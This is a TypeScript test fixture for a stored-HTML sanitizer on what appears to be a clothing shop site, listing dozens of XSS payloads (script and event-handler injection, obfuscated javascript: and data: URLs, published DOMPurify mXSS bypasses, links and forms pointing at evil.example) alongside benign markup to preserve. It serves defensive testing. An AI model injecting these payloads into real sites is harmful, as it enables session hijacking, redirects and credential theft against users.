// Hostile HTML for the stored-HTML cleaner (decisions 0012, 0047): what an attacker
// with write access to a description or a blog post would try. Collected from the cases in
// DOMPurify's and sanitize-html's test suites, the published DOMPurify mXSS bypasses, and the
// OWASP XSS filter evasion cheat sheet. Each payload, if it survived, would set window.__xss or
// navigate away.

export const HOSTILE_HTML: readonly string[] = [
  // the case that was found (decision 0047): a refresh written into a product description
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">Soft lawn',
  "<p>Nice</p><META HTTP-EQUIV=REFRESH CONTENT='0; URL=javascript:window.__xss=1'>",
  // scripts, plain and disguised
  "<script>window.__xss=1</script><p>ok</p>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<<script>script>window.__xss=1<</script>/script>",
  "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
  '<img """><script>window.__xss=1</script>">',
  "<script>/*</script><img src=x onerror=window.__xss=1>*/",
  // event handlers
  "<img src=x onerror=window.__xss=1>",
  '<img src="/media/x.webp" onload="window.__xss=1">',
  '<a href="https://ok.example/" onclick="window.__xss=1" onmouseover="window.__xss=1">ok</a>',
  "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
  "<body onload=window.__xss=1>",
  "<input autofocus onfocus=window.__xss=1>",
  "<video><source onerror=window.__xss=1></video>",
  "<p/onmouseover=window.__xss=1>x</p>",
  '<img src="x\u0000" onerror=window.__xss=1>',
  // javascript:, vbscript: and data: addresses, with the usual disguises
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="JaVaScRiPt:window.__xss=1">x</a>',
  '<a href=" javascript:window.__xss=1">x</a>',
  '<a href="java\tscript:window.__xss=1">x</a>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<a href="java&#x0A;script:window.__xss=1">x</a>',
  '<a href="&#106;avascript:window.__xss=1">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1">x</a>',
  '<a href="javas\u0000cript:window.__xss=1">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+">',
  '<a href="//evil.example/">protocol-relative</a>',
  '<img src="https://ok.example/a.png" srcset="javascript:window.__xss=1 1x">',
  '<table><tr><td background="javascript:window.__xss=1">x</td></tr></table>',
  // svg and math: other namespaces, other parsing rules
  "<svg><script>window.__xss=1</script></svg>",
  "<svg onload=window.__xss=1>",
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:window.__xss=1" /></svg>',
  "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  "<math><style><img src=x onerror=window.__xss=1></style></math>",
  // published DOMPurify mXSS bypasses (2.0.0, 2.0.17, 2.2.2, 3.1.x namespace confusion)
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='window.__xss=1'>\"></style></h1>",
  '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;window.__xss=1>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=window.__xss=1>">',
  '<a><style><a title="</style><img src onerror=window.__xss=1>"></a>',
  // raw-text and other odd elements
  "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:window.__xss=1)}</style>",
  '<p style="background:url(javascript:window.__xss=1); width: expression(window.__xss=1)">styled</p>',
  '<div style="behavior: url(https://evil.example/x.htc)">x</div>',
  "<template><img src=x onerror=window.__xss=1></template>",
  "<textarea></textarea><img src=x onerror=window.__xss=1>",
  "<title><img src=x onerror=window.__xss=1></title>",
  "<xmp><img src=x onerror=window.__xss=1></xmp>",
  "<noembed><img src=x onerror=window.__xss=1></noembed>",
  "<plaintext><img src=x onerror=window.__xss=1>",
  // frames, forms, objects, base and link
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.__xss=1">Go</button></form>',
  '<input type="image" formaction="javascript:window.__xss=1" src="x">',
  '<isindex action="javascript:window.__xss=1" type="image">',
  '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/x.html">',
  // comments, CDATA, malformed and unclosed markup
  "<!--<img src=x onerror=window.__xss=1>-->",
  "<!-- --!><img src=x onerror=window.__xss=1>-->",
  "<![CDATA[<img src=x onerror=window.__xss=1>]]>",
  '<img src="x" alt="</p><script>window.__xss=1</script>">',
  "<div id=x><img src=x onerror=window.__xss=1//",
  "<p><b><i>unclosed <a href='https://ok.example/'>link",
  "</p></div></body></html><img src=x onerror=window.__xss=1>",
  "<<img src=x onerror=window.__xss=1>>",
  "<img src=`x`onerror=window.__xss=1>",
  '<a href="https://ok.example/"\nonclick=window.__xss=1>x</a>',
];

/** Markup the cleaner must keep as it is (what the seed and the admin editor write). */
export const GOOD_HTML: readonly string[] = [
  "<p>Soft lawn with <strong>chikankari</strong> work.</p><p>Machine wash cold.</p>",
  "<h3>Details</h3><ul><li>Fabric: lawn</li><li>Work: embroidery</li></ul>",
  '<p>See the <a href="https://example.pk/size-guide" rel="noopener noreferrer">size guide</a>.</p>',
  '<figure><img src="/media/demo/a-800.webp" alt="A kurta" loading="lazy" /><figcaption>Mint</figcaption></figure>',
  "<blockquote>Breathable in May.</blockquote><ol><li>One</li><li>Two</li></ol>",
];
